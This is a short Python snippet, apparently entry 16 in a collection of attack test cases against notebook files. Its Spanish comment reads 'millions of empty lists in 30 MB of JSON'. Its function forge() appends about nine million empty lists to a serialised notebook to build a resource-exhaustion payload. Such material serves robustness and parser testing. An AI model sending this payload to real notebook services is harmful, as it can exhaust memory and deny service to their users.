# attack: millones de listas vacías en 30 MB de JSON
# entry: 16
# where: notebook

import json
def forge(notebook):
    return json.dumps(notebook)[:-1] + ', "x": [' + "[]," * 9_000_000 + "0]}"
